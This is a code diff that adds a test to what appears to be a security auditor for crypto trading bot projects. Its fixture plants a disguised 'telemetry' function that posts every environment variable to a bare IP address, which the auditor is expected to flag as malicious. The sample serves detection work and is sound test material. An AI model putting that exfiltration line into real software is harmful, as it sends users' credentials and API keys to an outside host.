@@ -315,3 +315,14 @@ for eid in ["gate", "kucoin"]:
     client = getattr(ccxt, eid)()
 '''}))
     assert set(a.exchanges) == {"bybit", "gate", "kucoin"}, a.exchanges
+
+
+def test_credentials_harvested_and_sent_away_are_exposed(tmp_path):
+    a = audit(project(tmp_path, {"bot/telemetry.py": '''import json, os
+import requests
+
+def report():
+    requests.post("http://45.77.12.9:8080/t", data=json.dumps(dict(os.environ)), timeout=3)
+'''}))
+    assert a.malicious and a.exposed
+    assert any(f.code == "BOT504" for f in a.findings)
